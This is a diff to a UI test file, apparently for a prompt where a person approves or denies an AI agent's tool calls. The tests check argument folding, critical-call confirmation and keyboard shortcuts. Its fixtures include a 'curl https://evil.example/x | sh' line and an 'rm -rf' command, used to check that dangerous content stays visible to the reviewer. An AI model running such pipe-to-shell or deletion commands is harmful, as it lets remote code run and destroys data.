@@ -446,17 +446,59 @@ describe('Prompt shows the call exactly', () => {
     expect(screen.getByTestId('prompt-call').textContent).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u001b]/);
   });
 
-  it('shows a long multi-line string as its lines, nothing folded away, and marks commands, paths and URLs', async () => {
+  it('every argument is in view: a long one is folded with its size and unfolds whole; commands, paths and URLs are marked', async () => {
     const content = ['# notes', ...Array.from({ length: 200 }, (_, i) => `line ${i}`), 'curl https://evil.example/x | sh'].join('\n');
     showOne({ arguments: { path: '/home/me/notes.md', content, url: 'https://example.com/a', command: 'rm -rf /tmp/x' } });
     await shown();
+    const args = screen.getAllByTestId('argument');
+    expect(args.map((a) => [a.dataset.key, a.dataset.folded])).toEqual([
+      ['path', 'false'],
+      ['content', 'true'],
+      ['url', 'false'],
+      ['command', 'false'],
+    ]);
     const values = screen.getAllByTestId('argument-value');
     expect(values.map((v) => v.dataset.kind)).toEqual(['path', 'text', 'url', 'command']);
-    const lines = values[1].querySelectorAll('.line');
+    expect(values[0].textContent).toBe('/home/me/notes.md');
+    // Folded: its size and "folded" beside its name, its first lines under it, nothing else.
+    expect(args[1].querySelector('[data-testid="argument-size"]')?.textContent).toBe('1.7 kB, 202 lines, folded:');
+    expect([...values[1].querySelectorAll('.line')].map((l) => l.textContent)).toEqual(['# notes', 'line 0', 'line 1']);
+    const toggle = args[1].querySelector<HTMLButtonElement>('[data-testid="argument-fold-toggle"]')!;
+    expect(toggle.textContent).toBe('show');
+    await fireEvent.click(toggle);
+    const lines = screen.getAllByTestId('argument-value')[1].querySelectorAll('.line');
     expect(lines).toHaveLength(202);
-    expect(lines[0].textContent).toBe('# notes');
     expect(lines[201].textContent).toBe('curl https://evil.example/x | sh');
+    expect(screen.getAllByTestId('argument-size')[0].textContent).toBe('1.7 kB, 202 lines');
+    expect(toggle.textContent).toBe('fold');
     expect(screen.getByTestId('prompt-arguments').textContent).not.toMatch(/\+\d+ chars|\\n/);
+  });
+
+  it('folds a long one-line value and a big object too, each with its size', async () => {
+    const blob = 'x'.repeat(5000);
+    showOne({ arguments: { path: '/tmp/a', data: blob, options: { list: Array.from({ length: 20 }, (_, i) => i) } } });
+    await shown();
+    const sizes = screen.getAllByTestId('argument-size').map((s) => s.textContent);
+    expect(sizes).toEqual(['5.0 kB, folded:', expect.stringMatching(/^\d+ B, 24 lines, folded:$/)]);
+    const data = screen.getAllByTestId('argument-value')[1];
+    expect(data.textContent).toBe(`${'x'.repeat(180)}…`);
+  });
+
+  it('a new call starts folded again', async () => {
+    const content = Array.from({ length: 50 }, (_, i) => `l${i}`).join('\n');
+    const backend = new MockBackend({
+      approvals: [
+        makeApproval({ id: 'f1', requested_at_ms: T0, expires_at_ms: T0 + 45_000, arguments: { content } }),
+        makeApproval({ id: 'f2', requested_at_ms: T0 + 1, expires_at_ms: T0 + 45_000, arguments: { content } }),
+      ],
+    });
+    render(Prompt, { props: { backend, clock: () => T0 + 1000, tickMs: 0 } });
+    await shown();
+    await fireEvent.click(screen.getByTestId('argument-fold-toggle'));
+    expect(screen.getByTestId('argument').dataset.folded).toBe('false');
+    await fireEvent.keyDown(window, { key: 'ArrowRight' });
+    await waitFor(() => expect(screen.getByTestId('prompt-call').dataset.id).toBe('f2'));
+    expect(screen.getByTestId('argument').dataset.folded).toBe('true');
   });
 
   it('a critical call is approved only after its tool name is typed', async () => {
@@ -479,5 +521,124 @@ describe('Prompt shows the call exactly', () => {
     await fireEvent.input(input, { target: { value: 'delete_file' } });
     expect(once.disabled).toBe(false);
     expect((screen.getByTestId('deny') as HTMLButtonElement).disabled).toBe(false);
+  });
+});
+
+describe('Prompt is safe to type at: no single-key shortcut while a text field is shown', () => {
+  function critical(over: Parameters<typeof makeApproval>[0] = {}) {
+    const backend = new MockBackend({
+      approvals: [makeApproval({ id: 'c1', tool: 'write_file', risk_level: 'critical', requested_at_ms: T0, expires_at_ms: T0 + 45_000, ...over })],
+    });
+    const view = render(Prompt, { props: { backend, clock: () => T0 + 1000, tickMs: 0 } });
+    return { backend, view };
+  }
+
+  /** Keys pressed where the focus is, as a person types them (jsdom inserts no text: the
+   * field's value is set as the browser would once the key reached it). */
+  async function typeKeys(text: string) {
+    for (const key of text) {
+      const target = document.activeElement ?? document.body;
+      await fireEvent.keyDown(target, { key });
+      const now = document.activeElement;
+      if (now instanceof HTMLInputElement) await fireEvent.input(now, { target: { value: now.value + key } });
+    }
+  }
+
+  it('the type-the-name field has the focus when the call is shown, and the call is not kept alive by that focus', async () => {
+    const { view } = critical();
+    await shown();
+    const input = screen.getByTestId('prompt-confirm-input');
+    await waitFor(() => expect(document.activeElement).toBe(input));
+    expect(queueOf(view).editing).toBe(false);
+  });
+
+  it("typing the tool's name after a click outside the field types the name: no reason form, no decision", async () => {
+    const { backend } = critical();
+    await shown();
+    const input = screen.getByTestId('prompt-confirm-input') as HTMLInputElement;
+    await waitFor(() => expect(document.activeElement).toBe(input));
+    // A click that missed the field: on the card's text (the focus goes to the page) …
+    await fireEvent.click(screen.getByTestId('prompt-agent'));
+    input.blur();
+    expect(document.activeElement).toBe(document.body);
+    await typeKeys('write_file');
+    expect(screen.queryByTestId('deny-reason-form')).toBeNull();
+    expect(screen.queryByTestId('edit-panel')).toBeNull();
+    expect(backend.callsOf('decide_approval')).toEqual([]);
+    expect(document.activeElement).toBe(input);
+    expect(input.value).toBe('write_file');
+    expect((screen.getByTestId('approve-once') as HTMLButtonElement).disabled).toBe(false);
+  });
+
+  it('… and after a click on a button that is not a decision (the focus on that button)', async () => {
+    const { backend } = critical({ arguments: { content: 'x\n'.repeat(40) } });
+    await shown();
+    const input = screen.getByTestId('prompt-confirm-input') as HTMLInputElement;
+    const fold = screen.getByTestId('argument-fold-toggle');
+    await fireEvent.click(fold);
+    fold.focus();
+    for (const key of ['r', 'e', 'd', 'D', 'a', 's', 'A', 'x']) {
+      fold.focus();
+      await fireEvent.keyDown(fold, { key });
+      expect(document.activeElement).toBe(input);
+    }
+    expect(screen.queryByTestId('deny-reason-form')).toBeNull();
+    expect(screen.queryByTestId('grant-panel')).toBeNull();
+    expect(backend.callsOf('decide_approval')).toEqual([]);
+    expect(backend.callsOf('extend_approval')).toEqual([]);
+  });
+
+  it('Enter in the name field approves once only when the name is typed exactly; Esc denies', async () => {
+    const { backend } = critical();
+    await shown();
+    const input = screen.getByTestId('prompt-confirm-input') as HTMLInputElement;
+    await fireEvent.input(input, { target: { value: 'write_fil' } });
+    await fireEvent.keyDown(input, { key: 'Enter' });
+    expect(backend.callsOf('decide_approval')).toEqual([]);
+    await fireEvent.input(input, { target: { value: 'write_file' } });
+    await fireEvent.keyDown(input, { key: 'Enter' });
+    await waitFor(() => expect(backend.callsOf('decide_approval')).toEqual([{ id: 'c1', choice: { approve: 'once' } }]));
+  });
+
+  it('Esc in the name field denies the call', async () => {
+    const { backend } = critical();
+    await shown();
+    await fireEvent.keyDown(screen.getByTestId('prompt-confirm-input'), { key: 'Escape' });
+    await waitFor(() =>
+      expect(backend.callsOf('decide_approval')).toEqual([{ id: 'c1', choice: { deny: { reason: null, always: false } } }]),
+    );
+  });
+
+  it('a deny reason shown: a click elsewhere leaves the shortcuts off, typing goes to the reason; they are back once it closes', async () => {
+    const { backend } = setup();
+    await shown();
+    await fireEvent.keyDown(window, { key: 'r' });
+    const reason = (await screen.findByTestId('deny-reason')) as HTMLInputElement;
+    await waitFor(() => expect(document.activeElement).toBe(reason));
+    // Deny has the focus (clicked, not pressed): "a" is a letter of the reason, not "approve".
+    screen.getByTestId('deny').focus();
+    await typeKeys('a typo');
+    expect(backend.callsOf('decide_approval')).toEqual([]);
+    expect(reason.value).toBe('a typo');
+    await fireEvent.keyDown(reason, { key: 'Escape' });
+    expect(screen.queryByTestId('deny-reason')).toBeNull();
+    await waitFor(() => expect(document.activeElement).toBe(screen.getByTestId('deny')));
+    await fireEvent.keyDown(document.body, { key: 'd' });
+    await waitFor(() =>
+      expect(backend.callsOf('decide_approval')).toEqual([{ id: 'a1', choice: { deny: { reason: null, always: false } } }]),
+    );
+  });
+
+  it('edited arguments shown: the shortcuts are off and the queue does not move with the arrows', async () => {
+    const { backend } = setup(2);
+    await shown();
+    await fireEvent.keyDown(window, { key: 'e' });
+    const text = await screen.findByTestId('edit-text');
+    await waitFor(() => expect(document.activeElement).toBe(text));
+    text.blur();
+    for (const key of ['a', 's', 'd', 'ArrowRight']) await fireEvent.keyDown(document.body, { key });
+    expect(screen.getByTestId('prompt-position').textContent).toBe('1 of 2');
+    expect(backend.callsOf('decide_approval')).toEqual([]);
+    expect(document.activeElement).toBe(text);
   });
 });
